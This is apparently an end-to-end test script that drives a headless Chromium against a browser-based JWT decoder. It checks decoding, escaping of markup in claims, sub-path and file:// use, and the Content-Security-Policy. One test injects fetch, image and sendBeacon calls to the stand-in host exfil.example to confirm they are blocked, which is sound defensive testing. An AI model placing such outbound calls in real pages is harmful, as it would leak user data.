// End-to-end tests: serve dist/ on 127.0.0.1, open it in headless Chromium, act like an analyst,
// and read the results from the DOM. Usage: node e2e/run.mjs DIST_DIR
// Prints one line per check and a count; exits 1 if any check fails.
import { createHmac } from "node:crypto";
import { mkdir } from "node:fs/promises";
import { resolve } from "node:path";
import { serveDir } from "./serve.mjs";
import { launch } from "./browser.mjs";

const dist = process.argv[2] ?? "dist";
const outDir = new URL("./out/", import.meta.url).pathname;
await mkdir(outDir, { recursive: true });

const b64url = (s) => Buffer.from(s).toString("base64url");
/** A synthetic HS256 token, made here so no third-party data is needed. */
function makeToken(claims) {
  const head = b64url(JSON.stringify({ alg: "HS256", typ: "JWT", kid: "e2e-key" }));
  const body = b64url(JSON.stringify(claims));
  const sig = createHmac("sha256", "e2e-secret").update(`${head}.${body}`).digest("base64url");
  return `${head}.${body}.${sig}`;
}

const results = [];
async function check(name, fn) {
  try {
    await fn();
    results.push([name, true]);
    console.log(`  ok   ${name}`);
  } catch (e) {
    results.push([name, false]);
    console.log(`  FAIL ${name}\n       ${String(e?.message ?? e).split("\n").join("\n       ")}`);
  }
}
function assert(cond, msg) {
  if (!cond) throw new Error(msg);
}

const server = await serveDir(dist, "/");
const { context, page, requests, unblocked, consoleErrors } = await launch();
const origin = new URL(server.url).origin;
try {
  await check("the app loads and shows the tokens input", async () => {
    await page.goto(server.url);
    await page.waitForSelector("#tokens-input", { timeout: 15000 });
  });

  await check("no Content-Security-Policy violation while loading", async () => {
    const violations = await page.evaluate(
      () =>
        new Promise((ok) => {
          const seen = [];
          document.addEventListener("securitypolicyviolation", (e) => seen.push(e.violatedDirective));
          setTimeout(() => ok(seen), 300);
        }),
    );
    assert(violations.length === 0, `violations: ${violations.join(", ")}`);
  });

  const token = makeToken({ sub: "analyst-e2e", tid: "11111111-2222-3333-4444-555555555555", name: "E2E <b>Person</b>" });
  await check("pasting a token shows its decoded header and payload", async () => {
    await page.focus("#tokens-input");
    await page.keyboard.insertText(token);
    await page.waitForSelector("#decoded-payload", { timeout: 5000 });
    const header = await page.textContent("#decoded-header");
    const payload = await page.textContent("#decoded-payload");
    assert(header.includes('"alg": "HS256"'), `header was: ${header}`);
    assert(payload.includes('"sub": "analyst-e2e"'), `payload was: ${payload}`);
    assert(payload.includes("E2E <b>Person</b>"), "markup in a claim must show as text");
    assert((await page.$$("#decoded-payload b")).length === 0, "a claim injected an element");
  });

  await check("screenshots (light and dark) are written", async () => {
    await page.screenshot({ path: `${outDir}/decoded-light.png`, fullPage: true });
    await page.emulateMedia({ colorScheme: "dark" });
    await page.screenshot({ path: `${outDir}/decoded-dark.png`, fullPage: true });
    await page.emulateMedia({ colorScheme: "light" });
  });

  await check("garbage input shows a typed error, not a blank page", async () => {
    await page.fill("#tokens-input", "definitely.not");
    const err = await page.textContent("#decode-error");
    assert(err.includes("dot-separated parts"), `error was: ${err}`);
  });

  await check("every request was for the app's own files", async () => {
    const foreign = requests.filter(
      (u) => !u.startsWith(origin + "/") && !u.startsWith("data:") && !u.startsWith("file://") && !u.includes("exfil.example"),
    );
    assert(foreign.length === 0, `foreign requests: ${foreign.join(", ")}`);
    assert(requests.length > 0, "CDP saw no requests at all: the audit is not working");
  });

  await check("an injected fetch, image and sendBeacon to another origin are blocked by the CSP", async () => {
    const outcome = await page.evaluate(async () => {
      const seen = [];
      document.addEventListener("securitypolicyviolation", (e) => seen.push(e.violatedDirective));
      let fetchBlocked = false;
      try {
        await fetch("https://exfil.example/leak?t=1");
      } catch {
        fetchBlocked = true;
      }
      const img = new Image();
      img.src = "https://exfil.example/pixel.gif";
      const beacon = navigator.sendBeacon("https://exfil.example/beacon", "x");
      await new Promise((ok) => setTimeout(ok, 300));
      return { fetchBlocked, beacon, seen };
    });
    const leaked = unblocked().filter((u) => u.includes("exfil.example"));
    assert(outcome.fetchBlocked, "fetch to another origin was not blocked");
    assert(outcome.seen.includes("connect-src"), `no connect-src violation: ${outcome.seen}`);
    assert(outcome.seen.includes("img-src"), `no img-src violation: ${outcome.seen}`);
    assert(leaked.length === 0, `requests left the page: ${leaked.join(", ")}`);
  });

  await check("works from a sub-path", async () => {
    const sub = await serveDir(dist, "/tools/keyhole/");
    try {
      const p = await context.newPage();
      await p.goto(sub.url);
      await p.fill("#tokens-input", token);
      const payload = await p.textContent("#decoded-payload");
      assert(payload.includes("analyst-e2e"), "decode failed under a sub-path");
      assert(sub.served.every((u) => u.startsWith("/tools/keyhole/")), `requests outside the sub-path: ${sub.served}`);
      await p.close();
    } finally {
      await sub.close();
    }
  });

  await check("works when opened from file://", async () => {
    const p = await context.newPage();
    const pageErrors = [];
    p.on("pageerror", (e) => pageErrors.push(String(e)));
    await p.goto(new URL(`file://${resolve(dist)}/offline.html`).href);
    await p.waitForSelector("#tokens-input", { timeout: 15000 });
    await p.fill("#tokens-input", token);
    const payload = await p.textContent("#decoded-payload");
    assert(payload.includes("analyst-e2e"), "decode failed from file://");
    assert(pageErrors.length === 0, pageErrors.join("\n"));
    await p.close();
  });

  await check("no console errors", async () => {
    // The CSP test above provokes violation messages on purpose; anything else is a failure.
    const errors = consoleErrors.filter((m) => !m.includes("exfil.example"));
    assert(errors.length === 0, errors.join("\n"));
  });
} finally {
  await context.close();
  await server.close();
}

const failed = results.filter(([, ok]) => !ok).length;
console.log(`e2e: ${results.length - failed} of ${results.length} browser checks passed in headless Chromium (screenshots in e2e/out/)`);
process.exit(failed ? 1 : 0);
